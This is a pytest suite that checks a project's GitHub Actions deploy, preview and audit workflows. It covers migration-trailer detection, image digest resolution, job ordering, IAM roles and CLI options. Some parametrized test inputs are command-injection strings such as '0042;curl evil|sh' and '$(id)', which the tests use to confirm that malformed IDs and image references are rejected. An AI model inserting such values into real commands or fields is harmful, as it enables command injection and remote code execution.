"""What the workflows do, beyond being well-formed: the migration trailer detection run for
real in a git repository, the order of deploy's jobs and steps, and the prism-dr commands
they call existing with the options they pass."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
WORKFLOWS = ROOT / ".github" / "workflows"
ZERO = "0" * 40


def _workflow(name: str) -> dict[str, Any]:
    doc = yaml.safe_load((WORKFLOWS / name).read_text())
    # YAML 1.1 reads the key `on` as True.
    doc["on"] = doc.pop(True, doc.get("on"))
    return doc


def _step(job: dict[str, Any], **match: str) -> dict[str, Any]:
    return next(s for s in job["steps"] if all(s.get(k) == v for k, v in match.items()))


def _uses(job: dict[str, Any], action: str) -> list[dict[str, Any]]:
    return [s for s in job["steps"] if s.get("uses", "").startswith(action + "@")]


# --- the migration trailer, detected by the workflow's own script ------------------------------


def _git(repo: Path, *args: str) -> str:
    env = {
        **os.environ,
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@example.com",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@example.com",
    }
    return subprocess.run(
        ["git", *args], cwd=repo, env=env, check=True, capture_output=True, text=True
    ).stdout.strip()


def _commit(repo: Path, message: str) -> str:
    _git(repo, "commit", "--allow-empty", "-q", "-m", message)
    return _git(repo, "rev-parse", "HEAD")


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    _git(tmp_path, "init", "-q", "-b", "main")
    _commit(tmp_path, "base")
    return tmp_path


def _find_migrations(
    repo: Path, deployed: str, after: str, *, before: str = "", manual: str = ""
) -> tuple[int, str, str]:
    """The prod job's own script, with DEPLOYED as the stack's deployedCommit output gives it
    (empty when the stack has none) and BEFORE as github.event.before."""
    script = _step(_workflow("deploy.yml")["jobs"]["prod"], id="find")["run"]
    output = repo / "github_output"
    output.write_text("")
    env = {**os.environ, "DEPLOYED": deployed, "BEFORE": before, "AFTER": after}
    env |= {"MANUAL": manual, "GITHUB_OUTPUT": str(output)}
    result = subprocess.run(
        ["bash", "-e", "-c", script], cwd=repo, env=env, capture_output=True, text=True
    )
    return result.returncode, output.read_text(), result.stdout + result.stderr


def test_trailer_of_a_pushed_commit(repo: Path) -> None:
    deployed = _git(repo, "rev-parse", "HEAD")
    _commit(repo, "schema: add index\n\nPrism-Migration: 0042_add_building_index\n")
    after = _commit(repo, "docs: typo")
    code, output, _ = _find_migrations(repo, deployed, after)
    assert code == 0 and output == "ids=0042_add_building_index\n"


def test_several_migrations_in_one_push(repo: Path) -> None:
    deployed = _git(repo, "rev-parse", "HEAD")
    _commit(repo, "m1\n\nPrism-Migration: 0043_b\n")
    after = _commit(repo, "m2\n\nPrism-Migration: 0042_a\nSigned-off-by: t <t@example.com>\n")
    code, output, _ = _find_migrations(repo, deployed, after)
    assert code == 0 and output == "ids=0042_a 0043_b\n"


def test_no_trailer_means_no_snapshot(repo: Path) -> None:
    deployed = _git(repo, "rev-parse", "HEAD")
    after = _commit(repo, "feat: nothing for the database\n\nPrism-Migration is not a trailer here")
    code, output, _ = _find_migrations(repo, deployed, after)
    assert code == 0 and output == "ids=\n"


def test_a_cancelled_pending_runs_migrations_are_snapshotted_by_the_next(repo: Path) -> None:
    # Push 1 (deployed) is running; push 2 carries a migration and waits; push 3 queues, and
    # GitHub cancels the waiting run of push 2 (one pending run per concurrency group). Push
    # 3's run sees github.event.before = push 2's head, but reads from the deployed commit.
    deployed = _git(repo, "rev-parse", "HEAD")
    push2 = _commit(repo, "schema\n\nPrism-Migration: 0050_cancelled_run\n")
    push3 = _commit(repo, "feat: unrelated")
    code, output, _ = _find_migrations(repo, deployed, push3, before=push2)
    assert code == 0 and output == "ids=0050_cancelled_run\n"
    # What reading github.event.before..sha alone (the old range) would have missed:
    code, output, _ = _find_migrations(repo, "", push3, before=push2)
    assert code == 0 and output == "ids=\n"


def test_a_deploy_that_failed_leaves_its_migrations_for_the_next(repo: Path) -> None:
    # An up that failed recorded no new deployedCommit: the next run reads from the older one.
    deployed = _git(repo, "rev-parse", "HEAD")
    _commit(repo, "a\n\nPrism-Migration: 0060_a\n")
    after = _commit(repo, "b\n\nPrism-Migration: 0061_b\n")
    code, output, _ = _find_migrations(repo, deployed, after, before=deployed)
    assert code == 0 and output == "ids=0060_a 0061_b\n"


def test_a_deployed_commit_not_behind_the_head_stops_the_deploy(repo: Path) -> None:
    _git(repo, "checkout", "-q", "-b", "other")
    elsewhere = _commit(repo, "x\n\nPrism-Migration: 0070_x\n")
    _git(repo, "checkout", "-q", "main")
    after = _commit(repo, "y")
    for deployed in (elsewhere, "1234567" * 5 + "12345"):
        code, output, log = _find_migrations(repo, deployed, after)
        assert code == 1 and output == ""
        assert "::error::the last deployed commit" in log


def test_without_a_recorded_commit_the_push_range_is_read(repo: Path) -> None:
    before = _git(repo, "rev-parse", "HEAD")
    after = _commit(repo, "m\n\nPrism-Migration: 0080_m\n")
    code, output, log = _find_migrations(repo, "", after, before=before)
    assert code == 0 and output == "ids=0080_m\n"
    assert "::warning::prod has no deployedCommit output yet" in log


def test_a_first_deploy_reads_the_head_only(repo: Path) -> None:
    _commit(repo, "old\n\nPrism-Migration: 0001_old\n")
    after = _commit(repo, "new\n\nPrism-Migration: 0002_new\n")
    for before in (ZERO, "1234567" * 5 + "12345", ""):
        code, output, _ = _find_migrations(repo, "", after, before=before)
        assert code == 0 and output == "ids=0002_new\n"


def test_the_manual_input_wins(repo: Path) -> None:
    deployed = _git(repo, "rev-parse", "HEAD")
    after = _commit(repo, "x\n\nPrism-Migration: 0003_x\n")
    code, output, _ = _find_migrations(repo, deployed, after, manual="0099_manual")
    assert code == 0 and output == "ids=0099_manual\n"


@pytest.mark.parametrize("bad", ["0042;curl evil|sh", "$(id)", "-rf", "../x"])
def test_an_id_that_is_not_one_stops_the_deploy(repo: Path, bad: str) -> None:
    deployed = _git(repo, "rev-parse", "HEAD")
    after = _commit(repo, f"x\n\nPrism-Migration: {bad}\n")
    code, output, log = _find_migrations(repo, deployed, after)
    assert code == 1 and output == ""
    assert "::error::Prism-Migration" in log


# --- the approved tag, resolved to a digest ---------------------------------------------------

DIGEST = "sha256:" + "d8" * 32
# What `docker buildx imagetools inspect REF --format '{{json .Manifest}}'` prints for a
# multi-platform image: the index descriptor with its own digest first (the example output in
# docs.docker.com/reference/cli/docker/buildx/imagetools/inspect/, "--format").
_DOCKER = r"""#!/bin/bash
echo "docker $*" >>"$STUB_LOG"
if [ "$1 $2 $3" = "buildx imagetools inspect" ]; then
  case "$4" in
    *:missing) echo "ERROR: ghcr.io/acme/api:missing: not found" >&2; exit 1 ;;
  esac
  cat <<JSON
{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","digest":"$STUB_DIGEST","size":4654,"manifests":[{"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":"sha256:ac9dd4fbec9e36b562f910618975a2936533f8e411a3fea2858aacc0ac972e1c","size":1054,"platform":{"architecture":"arm64","os":"linux"}}]}
JSON
fi
"""


def _resolve(tmp_path: Path, ref: str) -> tuple[int, str, str, str]:
    script = _step(_workflow("deploy.yml")["jobs"]["release"], id="resolve")["run"]
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    (bin_dir / "docker").write_text(_DOCKER)
    (bin_dir / "docker").chmod(0o755)
    output, summary, log = (tmp_path / n for n in ("output", "summary", "log"))
    for f in (output, summary, log):
        f.write_text("")
    env = {**os.environ, "PATH": f"{bin_dir}:{os.environ['PATH']}", "REF": ref}
    env |= {"GITHUB_OUTPUT": str(output), "GITHUB_STEP_SUMMARY": str(summary)}
    env |= {"STUB_LOG": str(log), "STUB_DIGEST": DIGEST}
    result = subprocess.run(["bash", "-e", "-c", script], env=env, capture_output=True, text=True)
    return result.returncode, output.read_text(), summary.read_text(), result.stdout + result.stderr


def test_the_tag_is_resolved_to_its_digest_before_the_approval(tmp_path: Path) -> None:
    code, output, summary, _ = _resolve(tmp_path, "ghcr.io/acme/prism-api:1.4.2")
    assert code == 0
    assert output == f"image=ghcr.io/acme/prism-api:1.4.2@{DIGEST}\n"
    assert DIGEST in summary  # what the reviewers read before they approve
    calls = (tmp_path / "log").read_text()
    assert "buildx imagetools inspect ghcr.io/acme/prism-api:1.4.2" in calls


def test_a_digest_is_kept_as_it_is(tmp_path: Path) -> None:
    ref = "ghcr.io/acme/prism-api@sha256:" + "e" * 64
    code, output, _, _ = _resolve(tmp_path, ref)
    assert code == 0 and output == f"image={ref}\n"
    assert (tmp_path / "log").read_text() == ""  # nothing to look up


@pytest.mark.parametrize(
    ("ref", "message"),
    [
        ("", "is not an image reference"),
        ("ghcr.io/acme/api:1.0; curl evil", "is not an image reference"),
        ("ghcr.io/acme/api:missing", "could not resolve ghcr.io/acme/api:missing"),
    ],
)
def test_an_image_that_cannot_be_resolved_stops_before_prod(
    tmp_path: Path, ref: str, message: str
) -> None:
    code, output, _, log = _resolve(tmp_path, ref)
    assert code != 0 and output == ""
    assert message in log


# --- order and wiring --------------------------------------------------------------------------


def test_deploy_is_staging_then_digest_then_approval_snapshot_and_up() -> None:
    doc = _workflow("deploy.yml")
    assert doc["on"]["push"]["branches"] == ["main"]
    assert {"migration", "image"} <= set(doc["on"]["workflow_dispatch"]["inputs"])
    assert doc["concurrency"]["cancel-in-progress"] is False
    jobs = doc["jobs"]
    assert _uses(jobs["staging"], "pulumi/actions")[0]["with"]["stack-name"] == "staging"
    # The digest is resolved outside the protected environment: before the approval.
    assert "environment" not in jobs["release"]
    prod = jobs["prod"]
    assert set(prod["needs"]) == {"staging", "release"}
    assert prod["environment"] == "production"
    steps = prod["steps"]

    def index(**match: str) -> int:
        return next(i for i, s in enumerate(steps) if all(s.get(k) == v for k, v in match.items()))

    deployed, find = index(id="deployed"), index(id="find")
    snapshot = next(i for i, s in enumerate(steps) if s.get("name", "").startswith("Pre-migration"))
    settings = next(i for i, s in enumerate(steps) if "pulumi config set" in s.get("run", ""))
    up = next(
        i
        for i, s in enumerate(steps)
        if s.get("uses", "").startswith("pulumi/") and s["with"]["command"] == "up"
    )
    preview = next(
        i
        for i, s in enumerate(steps)
        if s.get("uses", "").startswith("pulumi/") and s["with"]["command"] == "preview"
    )
    # Prod is previewed here, behind the environment's approval, with the approved digest.
    assert deployed < find < snapshot < settings < preview < up
    assert steps[preview]["with"]["stack-name"] == "prod"
    assert steps[deployed]["with"]["command"] == "output"
    assert steps[find]["env"]["DEPLOYED"] == "${{ steps.deployed.outputs.deployedCommit }}"
    assert steps[snapshot]["if"] == "steps.find.outputs.ids != ''"
    assert 'prism-dr snapshot create --stack prod --migration "$id"' in steps[snapshot]["run"]
    assert "set -euo pipefail" in steps[snapshot]["run"]
    # The approved digest and this commit (the next run's starting point) go into this up.
    assert steps[settings]["env"]["IMAGE"] == "${{ needs.release.outputs.image }}"
    run = steps[settings]["run"]
    assert "pulumi config set --path 'prism-infra:apiHost.image' \"$IMAGE\" --stack prod" in run
    assert 'pulumi config set prism-infra:deployedCommit "$GITHUB_SHA" --stack prod' in run
    assert steps[up]["with"]["stack-name"] == "prod"
    checkout = _uses(prod, "actions/checkout")[0]
    assert checkout["with"]["fetch-depth"] == 0


def test_the_stack_records_the_commit_each_up_applies() -> None:
    from tests.infra.conftest import run_stack

    sha = "0123456789abcdef0123456789abcdef01234567"
    run = run_stack("prod", {"prism-infra:deployedCommit": sha})
    assert run.outputs["deployedCommit"] == sha


@pytest.mark.parametrize("workflow", ["preview.yml", "deploy.yml"])
def test_pulumi_runs_with_the_policy_pack_and_the_stacks_config(workflow: str) -> None:
    doc = _workflow(workflow)
    steps = [
        s
        for job in doc["jobs"].values()
        for s in _uses(job, "pulumi/actions")
        if s["with"]["command"] != "output"  # reads the stack's outputs: changes nothing
    ]
    assert steps
    for step in steps:
        stack = step["with"]["stack-name"]
        assert step["with"]["policyPacks"] == "policy"
        assert step["with"]["policyPackConfigs"] == f"policy/config/{stack}.json"
        if "matrix" not in stack:
            assert (ROOT / "policy" / "config" / f"{stack}.json").is_file()


def test_preview_tests_first_then_previews_staging_only_on_the_pr() -> None:
    doc = _workflow("preview.yml")
    assert "pull_request" in doc["on"] and "pull_request_target" not in doc["on"]
    preview = doc["jobs"]["preview"]
    assert preview["needs"] == "test"
    assert "strategy" not in preview  # no prod leg: a PR never runs with prod's key
    [step] = _uses(preview, "pulumi/actions")
    assert step["with"]["command"] == "preview"
    assert step["with"]["stack-name"] == "staging"
    [aws] = _uses(preview, "aws-actions/configure-aws-credentials")
    assert aws["with"]["role-to-assume"] == "${{ vars.AWS_PREVIEW_ROLE_ARN }}"
    assert step["with"]["comment-on-pr"] is True
    assert preview["permissions"] == {
        "contents": "read",
        "id-token": "write",
        "pull-requests": "write",
    }
    assert _step(doc["jobs"]["test"], run=".ci/run")
    for stack in ("staging", "prod"):
        assert (ROOT / "policy" / "config" / f"{stack}.json").is_file()


def test_state_is_the_bootstraps_bucket_and_no_passphrase_reaches_ci() -> None:
    """Secrets are decrypted with each stack's awskms:// key: no workflow holds a passphrase."""
    for path in WORKFLOWS.glob("*.yml"):
        text = path.read_text()
        assert "PULUMI_CONFIG_PASSPHRASE" not in text, path.name
        for step in (s for job in _workflow(path.name)["jobs"].values() for s in job["steps"]):
            if step.get("uses", "").startswith("pulumi/actions") and "command" in step["with"]:
                assert step["with"]["cloud-url"] == "${{ vars.PULUMI_BACKEND_URL }}"


def test_each_job_assumes_its_own_role() -> None:
    roles = {
        ("preview.yml", "preview"): "AWS_PREVIEW_ROLE_ARN",
        ("deploy.yml", "staging"): "AWS_DEPLOY_STAGING_ROLE_ARN",
        ("deploy.yml", "prod"): "AWS_PROD_DEPLOY_ROLE_ARN",
        ("drill.yml", "drill"): "AWS_DRILL_ROLE_ARN",
        ("audit.yml", "audit"): "AWS_AUDIT_ROLE_ARN",
        ("audit.yml", "prune"): "AWS_PRUNE_ROLE_ARN",
    }
    for (workflow, job), variable in roles.items():
        [aws] = _uses(_workflow(workflow)["jobs"][job], "aws-actions/configure-aws-credentials")
        assert aws["with"]["role-to-assume"] == f"${{{{ vars.{variable} }}}}"
    # The prune job's token must differ from the audit job's (infra/ci_roles.py SUBJECTS).
    jobs = _workflow("audit.yml")["jobs"]
    assert jobs["prune"]["environment"] == "prune" and "environment" not in jobs["audit"]


def test_audit_runs_weekly_and_fails_the_job_on_a_failed_check() -> None:
    doc = _workflow("audit.yml")
    [schedule] = doc["on"]["schedule"]
    *_, day, month, weekday = schedule["cron"].split()
    assert (day, month) == ("*", "*") and weekday.isdigit()
    assert "workflow_dispatch" in doc["on"]
    job = doc["jobs"]["audit"]
    step = _step(job, name="Backup posture of prod")
    assert step["run"] == ".venv/bin/prism-dr audit --stack prod"
    assert "continue-on-error" not in step and "continue-on-error" not in job


def test_python_dependencies_come_from_the_hash_pinned_lock() -> None:
    for path in WORKFLOWS.glob("*.yml"):
        doc = _workflow(path.name)
        for job in doc["jobs"].values():
            for step in job.get("steps", []):
                run = step.get("run", "")
                for line in run.splitlines():
                    if "pip install" in line and "-r requirements.lock" in line:
                        assert "--require-hashes" in line, f"{path.name}: {line}"
                    if "pip install" in line and "-e ." in line:
                        assert "--no-deps" in line, f"{path.name}: {line}"


@pytest.mark.parametrize(
    ("command", "options"),
    [
        (["snapshot", "create"], ["--stack", "--migration", "--json"]),
        (["snapshot", "prune"], ["--stack", "--yes", "--json"]),
        (["audit"], ["--stack"]),
        (["plan"], ["--stack"]),
    ],
)
def test_the_commands_the_workflows_call_exist(command: list[str], options: list[str]) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "prism_dr", *command, "--help"],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "COLUMNS": "200"},
    )
    assert result.returncode == 0, result.stderr
    for option in options:
        assert option in result.stdout


def test_snapshot_prune_runs_weekly_with_yes() -> None:
    doc = _workflow("audit.yml")
    assert doc["on"]["schedule"]  # the same weekly schedule as the audit
    job = doc["jobs"]["prune"]
    step = _step(job, name="Prune expired pre-migration snapshots of prod")
    assert step["run"] == ".venv/bin/prism-dr snapshot prune --stack prod --yes --json"
    assert "continue-on-error" not in step and "continue-on-error" not in job
    role = _uses(job, "aws-actions/configure-aws-credentials")[0]["with"]["role-to-assume"]
    assert (
        role
        != _uses(doc["jobs"]["audit"], "aws-actions/configure-aws-credentials")[0]["with"][
            "role-to-assume"
        ]
    )  # the audit's role stays read-only


def test_the_scheduled_audit_sees_the_migration_trailers() -> None:
    [checkout] = _uses(_workflow("audit.yml")["jobs"]["audit"], "actions/checkout")
    assert checkout["with"]["fetch-depth"] == 0


def test_snapshot_records_land_through_a_pull_request() -> None:
    jobs = _workflow("deploy.yml")["jobs"]
    job = jobs["snapshot-records"]
    # The migrations are found in the prod job (after the approval), which hands them on.
    assert set(job["needs"]) == {"prod"}
    assert jobs["prod"]["outputs"]["ids"] == "${{ steps.find.outputs.ids }}"
    assert "always()" in job["if"] and "needs.prod.outputs.ids != ''" in job["if"]
    assert job["permissions"] == {"contents": "write", "pull-requests": "write"}
    [download] = _uses(job, "actions/download-artifact")
    assert download["with"]["path"] == "docs/audit/snapshots/"
    script = _step(job, name="Open the pull request (else the artifact is the record)")["run"]
    assert "git add docs/audit/snapshots" in script and "gh pr create" in script
    # The prod job itself only reads the repository.
    assert jobs["prod"]["permissions"]["contents"] == "read"
